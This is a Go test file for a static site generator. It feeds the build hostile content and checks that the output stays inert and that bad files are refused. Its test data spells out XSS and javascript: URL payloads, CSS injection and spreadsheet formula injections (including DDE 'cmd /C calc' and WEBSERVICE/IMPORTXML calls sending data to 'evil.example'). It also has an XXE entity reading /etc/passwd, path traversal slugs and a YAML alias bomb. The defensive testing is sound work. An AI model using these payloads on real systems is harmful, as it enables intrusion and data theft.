package generator_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/trellis-ssg/trellis/generator"
	"github.com/trellis-ssg/trellis/generator/render"
	"github.com/trellis-ssg/trellis/internal/hostile"
)

// TestHostileContentNeverExecutes builds testdata/hostile, whose every
// field and body carries script and event-handler payloads, and parses each
// output page: no payload may become a script, a handler, a dangerous URL or
// an embedding element.
func TestHostileContentNeverExecutes(t *testing.T) {
	src := "testdata/hostile"
	payloads := 0
	filepath.WalkDir(src, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			b, _ := os.ReadFile(p)
			payloads += bytes.Count(b, []byte("alert("))
		}
		return nil
	})
	root := t.TempDir()
	dest := filepath.Join(root, "public")
	res, err := generator.Build(generator.Options{Source: src, Destination: dest, Now: now})
	if err != nil {
		t.Fatalf("build: %v\n%v", err, res.Diags)
	}
	pages := 0
	made := map[string]int{} // the theme's templates that made a page, by name
	filepath.WalkDir(dest, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		switch filepath.Ext(p) {
		case ".html", ".svg":
			pages++
			b, _ := os.ReadFile(p)
			checkInert(t, strings.TrimPrefix(p, dest), b)
			if filepath.Ext(p) == ".html" {
				made[viewOf(t, strings.TrimPrefix(p, dest), b)]++
			}
		}
		return nil
	})
	// Every kind of page the theme makes is made from the hostile corpus,
	// so a new page kind is under these checks from its first day.
	for _, v := range render.Views() {
		if made[v] == 0 {
			t.Errorf("no page of the hostile build is made by the theme's %q template: give testdata/hostile content (or site.yaml settings) that makes one, so that its pages are checked too", v)
		}
	}
	// Nothing written beside the destination but the destination.
	entries, _ := os.ReadDir(root)
	if len(entries) != 1 || entries[0].Name() != "public" {
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		t.Errorf("the build left %v beside the destination", names)
	}
	t.Logf("%d payloads in the corpus, %d pages checked", payloads, pages)
	if payloads < 50 || pages < 10 {
		t.Fatalf("the corpus is too small to mean anything: %d payloads, %d pages", payloads, pages)
	}
}

// viewOf is the theme template that made a page: its body's view-<name>
// class.
func viewOf(t *testing.T, name string, page []byte) string {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		return ""
	}
	view := hostile.View(doc)
	if view == "" {
		t.Errorf("%s: the body has no view-<template> class", name)
	}
	return view
}

// checkInert fails the test for anything in page that could run code or
// load from another site (hostile.Inert).
func checkInert(t *testing.T, name string, page []byte) {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Errorf("%s: %v", name, err)
		return
	}
	for _, m := range hostile.Inert(doc) {
		t.Errorf("%s: %s", name, m)
	}
}

func attrOf(n *html.Node, key string) string {
	v, _ := attr(n, key)
	return v
}

// TestBadFilesEachGetTheirDiagnostic builds a site where every file is bad
// in its own way — huge, deeply nested, not UTF-8, binary, empty, a YAML
// alias bomb, path traversal in slugs and aliases, a symbolic link out of
// the site, a reference cycle — and checks that each is reported on its
// own, that nothing is written, and that the build finishes within bounded
// memory.
func TestBadFilesEachGetTheirDiagnostic(t *testing.T) {
	dir := t.TempDir()
	outside := filepath.Join(t.TempDir(), "secret.md")
	os.WriteFile(outside, []byte("---\ntitle: Secret\n---\nsecret text\n"), 0o644)

	deepYAML := "---\ntitle: Deep\nsummary: " + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + "\n---\n"
	bomb := "---\ntitle: Bomb\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n" +
		"b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n" +
		"e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n" +
		"h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\nsummary: *i\n---\n"
	bad := map[string]string{
		"content/intents/deep-yaml.md":       deepYAML,
		"content/intents/alias-bomb.md":      bomb,
		"content/intents/invalid-utf8.md":    "---\ntitle: Bad \xff\xfe bytes\nsummary: x\n---\n",
		"content/intents/nul.md":             "---\ntitle: Nul\nsummary: x\n---\nbinary\x00data\n",
		"content/intents/empty.md":           "",
		"content/intents/cycle-a.md":         "---\ntitle: A\nsummary: x\nparent: cycle-b\n---\n",
		"content/intents/cycle-b.md":         "---\ntitle: B\nsummary: x\nparent: cycle-a\n---\n",
		"content/intents/traversal-slug.md":  "---\ntitle: T\nsummary: x\nslug: ../../etc/passwd\n---\n",
		"content/intents/absolute-slug.md":   "---\ntitle: T\nsummary: x\nslug: /etc/passwd\n---\n",
		"content/intents/traversal-alias.md": "---\ntitle: T\nsummary: x\naliases: [\"../../outside/\"]\n---\n",
		"content/intents/encoded-alias.md":   "---\ntitle: T\nsummary: x\naliases: [\"%2e%2e/%2e%2e/outside/\"]\n---\n",
		"content/intents/colliding-alias.md": "---\ntitle: T\nsummary: x\naliases: [\"/intents/good/\"]\n---\n",
		"content/intents/good.md":            "---\ntitle: Good\nsummary: A good intent.\n---\n",
		"content/intents/bom-crlf.md":        "\xef\xbb\xbf---\r\ntitle: BOM\r\nsummary: fine\r\n---\r\nBody.\r\n",
		"content/intents/deep-markdown.md":   "---\ntitle: Deep Markdown\nsummary: fine\n---\n" + strings.Repeat(">", 5000) + " deep\n\n" + strings.Repeat("* ", 2000) + "list\n",
	}
	for name, body := range bad {
		p := filepath.Join(dir, filepath.FromSlash(name))
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// A 50 MB page: sparse, so the test writes nothing large.
	huge, err := os.Create(filepath.Join(dir, "content/intents/huge.md"))
	if err != nil {
		t.Fatal(err)
	}
	huge.WriteString("---\ntitle: Huge\nsummary: x\n---\n")
	huge.Truncate(50 << 20)
	huge.Close()
	if err := os.Symlink(outside, filepath.Join(dir, "content/intents/link-outside.md")); err != nil {
		t.Fatal(err)
	}

	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	dest := filepath.Join(dir, "public")
	res, err := generator.Build(generator.Options{Source: dir, Destination: dest, Now: now})
	runtime.ReadMemStats(&after)
	if !errors.Is(err, generator.ErrContent) {
		t.Fatalf("build error %v, want ErrContent", err)
	}
	if _, err := os.Stat(dest); !os.IsNotExist(err) {
		t.Error("a failed build wrote the destination")
	}
	byFile := map[string][]string{}
	for _, d := range res.Diags {
		byFile[d.File] = append(byFile[d.File], d.Code)
	}
	want := map[string]string{
		"content/intents/deep-yaml.md":       "",
		"content/intents/alias-bomb.md":      "",
		"content/intents/invalid-utf8.md":    "encoding",
		"content/intents/nul.md":             "encoding",
		"content/intents/empty.md":           "empty",
		"content/intents/huge.md":            "file-too-large",
		"content/intents/link-outside.md":    "symlink-outside",
		"content/intents/traversal-slug.md":  "fm-slug",
		"content/intents/absolute-slug.md":   "fm-slug",
		"content/intents/traversal-alias.md": "fm-alias",
		"content/intents/encoded-alias.md":   "fm-alias",
		"content/intents/colliding-alias.md": "alias-collision",
	}
	for file, code := range want {
		codes := byFile[file]
		if len(codes) == 0 {
			t.Errorf("%s got no diagnostic", file)
			continue
		}
		if code != "" && !containsCode(codes, code) {
			t.Errorf("%s: diagnostics %v, want %s", file, codes, code)
		}
	}
	cycle := containsCode(byFile["content/intents/cycle-a.md"], "ref-cycle") || containsCode(byFile["content/intents/cycle-b.md"], "ref-cycle")
	if !cycle {
		t.Errorf("the parent cycle is not reported: %v %v", byFile["content/intents/cycle-a.md"], byFile["content/intents/cycle-b.md"])
	}
	for _, fine := range []string{"content/intents/good.md", "content/intents/bom-crlf.md", "content/intents/deep-markdown.md"} {
		for _, code := range byFile[fine] {
			if code != "fm-unknown-field" {
				t.Errorf("%s is fine but got %s", fine, code)
			}
		}
	}
	for _, d := range res.Diags {
		if strings.Contains(d.Message, "secret text") {
			t.Error("the file behind the symbolic link was read")
		}
	}
	if grown := after.TotalAlloc - before.TotalAlloc; grown > 1<<30 {
		t.Errorf("the build allocated %d MB", grown>>20)
	}
	t.Logf("%d bad files, %d diagnostics, %d MB allocated", len(want)+2, len(res.Diags), (after.TotalAlloc-before.TotalAlloc)>>20)
}

func containsCode(codes []string, code string) bool {
	for _, c := range codes {
		if c == code {
			return true
		}
	}
	return false
}

// formulaPayloads are the spreadsheet formula payloads of the hostile
// corpus (OWASP's "CSV Injection"): every text field of a page of every
// kind in testdata/hostile carries one.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example","Click")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	`=1+1;=2+2`, "\t=1+1 tab", "\r=1+1 carriage return", `=cmd|' /C notepad'!'A1'`, `@formula-system`, `-1+1`,
	`=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")`, `+IMPORTXML(A1)`, `=DDE("cmd";"/C calc";"!A0")`,
	`@SUM(A1:A9)`, `-1+2`, `+2-1`, `'=already quoted`, `=WEBSERVICE("http://evil.example/"&A1)`, `+stage()`, `=place()`,
	`@place`, `-question()`, `=tag()`, `=risk()`, `=pool()`, `@learning()`, `-learning()`, `=evidence()`, `=decision()`,
	`+decision()`, `@context()`, `-rationale()`, `=story()`, `+story()`, `@teller()`, `-role()`, `=quote()`, `+place()`,
	`=theme()`, `@note()`, `-moderation()`, `=transcript()`, `+caption()`, `+source()`, `=source()`, `=video()`,
	`@transcript()`, `=page()`, `@page()`, `+page()`,
}

// TestHostileCSVIsSpreadsheetSafe parses every CSV file of the hostile
// build with encoding/csv: no cell may begin as a formula (=, +, -, @, tab,
// CR) unless it is a plain number, and every payload must come back exactly
// by the rule the CSV metadata documents; portfolio.json keeps it as it is.
func TestHostileCSVIsSpreadsheetSafe(t *testing.T) {
	src := "testdata/hostile"
	var corpus []byte
	filepath.WalkDir(src, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			b, _ := os.ReadFile(p)
			corpus = append(corpus, b...)
		}
		return nil
	})
	for _, p := range formulaPayloads {
		quoted := strings.NewReplacer(`"`, `\"`, "\t", `\t`, "\r", `\r`).Replace(p)
		if !bytes.Contains(corpus, []byte(p)) && !bytes.Contains(corpus, []byte(quoted)) {
			t.Errorf("payload %q is not in the hostile corpus", p)
		}
	}
	dest := filepath.Join(t.TempDir(), "public")
	res, err := generator.Build(generator.Options{Source: src, Destination: dest, Now: now})
	if err != nil {
		t.Fatalf("build: %v\n%v", err, res.Diags)
	}
	formula := regexp.MustCompile(`^[=+\-@\t\r]`)
	number := regexp.MustCompile(`^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$`)
	undo := regexp.MustCompile(`^'+[=+\-@\t\r]`)
	found := map[string]bool{}
	files, _ := filepath.Glob(filepath.Join(dest, "data", "*.csv"))
	// The funding overview's downloads (issue 21) are CSV files too.
	money, _ := filepath.Glob(filepath.Join(dest, "money", "*.csv"))
	if len(money) == 0 {
		t.Error("the hostile build has no funding overview CSV files")
	}
	files = append(files, money...)
	cells := 0
	for _, f := range files {
		b, _ := os.ReadFile(f)
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		for _, r := range rows {
			for _, c := range r {
				cells++
				if formula.MatchString(c) && !number.MatchString(c) {
					t.Errorf("%s: the cell %q would run as a formula", filepath.Base(f), c)
				}
				if undo.MatchString(c) {
					c = c[1:]
				}
				found[c] = true
				for _, item := range strings.Split(c, ";") {
					found[item] = true
				}
			}
		}
	}
	var doc any
	b, _ := os.ReadFile(filepath.Join(dest, "data", "portfolio.json"))
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	exact := map[string]bool{}
	var walk func(any)
	walk = func(v any) {
		switch v := v.(type) {
		case string:
			exact[v] = true
		case []any:
			for _, x := range v {
				walk(x)
			}
		case map[string]any:
			for _, x := range v {
				walk(x)
			}
		}
	}
	walk(doc)
	for _, p := range formulaPayloads {
		if !found[p] && !found[strings.Split(p, ";")[0]] {
			t.Errorf("payload %q does not come back from any CSV cell", p)
		}
		if !exact[p] {
			t.Errorf("payload %q is not in portfolio.json as it was written", p)
		}
	}
	// The IATI file carries the initiative's text as it was written.
	iati, err := os.ReadFile(filepath.Join(dest, "data", "iati-activities.xml"))
	if err != nil {
		t.Fatal(err)
	}
	var activities struct {
		Titles []string `xml:"iati-activity>title>narrative"`
		Descs  []string `xml:"iati-activity>description>narrative"`
	}
	if err := xml.Unmarshal(iati, &activities); err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(activities.Titles, `'=already quoted`) || !slices.Contains(activities.Descs, `=WEBSERVICE("http://evil.example/"&A1)`) {
		t.Errorf("the IATI file does not carry the payloads exactly: %q %q", activities.Titles, activities.Descs)
	}
	t.Logf("%d CSV files, %d cells, %d payloads", len(files), cells, len(formulaPayloads))
}

// TestHostileMoneyOverview: the funding overview (issue 21) of the hostile
// build shows a hostile pooled fund's name, funder and currency as text,
// and its CSV download of the pools holds the formula payload neutralised.
func TestHostileMoneyOverview(t *testing.T) {
	dest := filepath.Join(t.TempDir(), "public")
	res, err := generator.Build(generator.Options{Source: "testdata/hostile", Destination: dest, Now: now})
	if err != nil {
		t.Fatalf("build: %v\n%v", err, res.Diags)
	}
	page, err := os.ReadFile(filepath.Join(dest, "money", "index.html"))
	if err != nil {
		t.Fatal(err)
	}
	checkInert(t, "/money/index.html", page)
	doc, _ := html.Parse(bytes.NewReader(page))
	txt := text(doc)
	for _, want := range []string{"<script>alert('pool')</script>", "=pool()", "<b>EUR</b>"} {
		if !strings.Contains(txt, want) {
			t.Errorf("the overview does not show %q as text", want)
		}
	}
	b, err := os.ReadFile(filepath.Join(dest, "money", "pools.csv"))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range rows {
		found = found || r[0] == "'=pool()"
	}
	if !found {
		t.Errorf("pools.csv does not hold the pool \"=pool()\" neutralised: %q", rows)
	}
}

// TestHostileBrandAndMenusRefused: brand settings and menu entries that
// would run script are refused, each an error at its line of site.yaml,
// and the build writes nothing: script URLs in menus whatever their case
// or padding, stylesheets that are not only CSS, and SVG files that
// declare entities.
func TestHostileBrandAndMenusRefused(t *testing.T) {
	urls := []string{"javascript:alert('m1')", "JaVaScRiPt:alert('m2')", " javascript:alert('m3')", "java\tscript:alert('m4')",
		"data:text/html,<script>alert('m5')</script>", "vbscript:msgbox('m6')", "javascript&#58;alert('m7')", "//evil.example/alert('m8')",
		"jav&#x0A;ascript:alert('m9')", "file:///etc/passwd", `/\evil.example/alert('m10')`}
	css := map[string]string{
		"close.css":      "</style><script>alert('c1')</script>",
		"expression.css": "a { width: expression(alert('c2')) }",
		"binding.css":    "a { -moz-binding: url(\"https://evil.example/x.xml#alert('c3')\") }",
		"import.css":     "@import url(\"javascript:alert('c4')\");",
		"url.css":        "a { background: url(javascript:alert('c5')) }",
		"behavior.css":   "a { behavior: url(alert.htc) }",
		"data.css":       "a { background: url(\"data:text/html,<script>alert('c6')</script>\") }",
	}
	for i, u := range urls {
		yaml := "title: x\nmenu:\n  footer:\n    - {title: Click, url: " + strconv.Quote(u) + "}\n"
		refused(t, "menu url "+strconv.Itoa(i), yaml, nil, 4)
	}
	for name, body := range css {
		refused(t, name, "title: x\nbrand:\n  css: ["+name+"]\n", map[string]string{name: body}, 3)
	}
	refused(t, "entities", "title: x\nbrand:\n  logo: logo.svg\n", map[string]string{
		"logo.svg": `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`}, 3)
	refused(t, "html as svg", "title: x\nbrand:\n  favicon: icon.svg\n", map[string]string{
		"icon.svg": `<html><body><script>alert('f1')</script></body></html>`}, 3)
}

// refused builds a site with the given site.yaml and files and wants an
// error at line of site.yaml, and nothing written.
func refused(t *testing.T, name, yaml string, files map[string]string, line int) {
	t.Helper()
	src := t.TempDir()
	files = maps.Clone(files)
	if files == nil {
		files = map[string]string{}
	}
	files["site.yaml"] = yaml
	files["content/intents/clean-air.md"] = "---\ntitle: Clean air\nsummary: Air.\n---\n"
	for f, body := range files {
		os.MkdirAll(filepath.Dir(filepath.Join(src, f)), 0o755)
		os.WriteFile(filepath.Join(src, f), []byte(body), 0o644)
	}
	dest := filepath.Join(src, "public")
	res, err := generator.Build(generator.Options{Source: src, Destination: dest, Now: now})
	if !errors.Is(err, generator.ErrContent) {
		t.Errorf("%s: build error %v, want ErrContent", name, err)
	}
	found := false
	for _, d := range res.Diags {
		found = found || d.File == "site.yaml" && d.Line == line && d.Severity.String() == "error"
	}
	if !found {
		t.Errorf("%s: no error at site.yaml:%d:\n%v", name, line, res.Diags)
	}
	if _, err := os.Stat(dest); !os.IsNotExist(err) {
		t.Errorf("%s: the refused build wrote %s", name, dest)
	}
}

// TestHostileGlossaryAndReportLink: the glossary and the report link
// (issue 21) under hostile input: a theme whose strings carry markup shows
// it as text on /glossary/ and in the leads it links, a report_url with
// quotes and markup stays inside its attribute, and a report_url that is
// not a web address (a script URL among them) is refused with its line.
func TestHostileGlossaryAndReportLink(t *testing.T) {
	files := smallSite()
	files["site.yaml"] = "title: Small portfolio\nbase_url: https://small.example/\ntheme: evil\nreport_url: \"https://forms.example/r?a=\\\"><script>alert('report')</script>\"\n"
	// A theme's strings file replaces the default's whole: start from it.
	strs, err := os.ReadFile(filepath.Join(exampleSite, "themes", "default", "i18n", "en.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	evil := map[string]string{
		"glossary.intent.text":  `"<script>alert('glossary')</script><img src=x onerror=alert('g2')>"`,
		"glossary.intent.words": `"intent, <b>"`,
		"kind.initiative.about": `"Every <i>initiative</i> we run"`,
	}
	lines := strings.Split(string(strs), "\n")
	for i, l := range lines {
		if k, _, ok := strings.Cut(l, ":"); ok && evil[k] != "" {
			lines[i] = k + ": " + evil[k]
		}
	}
	files["themes/evil/i18n/en.yaml"] = strings.Join(lines, "\n")
	src := t.TempDir()
	writeSite(t, src, files)
	dest := filepath.Join(t.TempDir(), "public")
	res, err := generator.Build(generator.Options{Source: src, Destination: dest, Now: now})
	if err != nil {
		t.Fatalf("build: %v\n%v", err, res.Diags)
	}
	for _, p := range []string{"glossary/index.html", "initiatives/index.html", "index.html"} {
		b, err := os.ReadFile(filepath.Join(dest, p))
		if err != nil {
			t.Fatal(err)
		}
		checkInert(t, p, b)
	}
	g, _ := os.ReadFile(filepath.Join(dest, "glossary", "index.html"))
	if doc, _ := html.Parse(bytes.NewReader(g)); !strings.Contains(text(doc), "<script>alert('glossary')</script>") {
		t.Error("the glossary does not show the theme's markup as text")
	}
	b, _ := os.ReadFile(filepath.Join(dest, "index.html"))
	doc, _ := html.Parse(bytes.NewReader(b))
	found := false
	walkNodes(doc, func(n *html.Node) {
		if href, _ := attr(n, "href"); strings.HasPrefix(href, "https://forms.example/r?a=") {
			found = !strings.ContainsAny(href, `"<>`) && strings.HasSuffix(href, "&page=https%3A%2F%2Fsmall.example%2F")
		}
	})
	if !found {
		t.Error("the report link does not carry the form's address whole, with the page's address added")
	}
	for _, bad := range []string{"javascript:alert('r')", "forms.example/report", "https://forms.example/r#x"} {
		files["site.yaml"] = "title: Small portfolio\nreport_url: \"" + bad + "\"\n"
		src := t.TempDir()
		writeSite(t, src, files)
		res, err := generator.Build(generator.Options{Source: src, Destination: filepath.Join(t.TempDir(), "public"), Now: now})
		if err == nil || findDiag(res.Diags, "config-report-url", "site.yaml") == nil || findDiag(res.Diags, "config-report-url", "site.yaml").Line != 2 {
			t.Errorf("report_url %q: build error %v, diagnostics %v", bad, err, res.Diags)
		}
	}
}
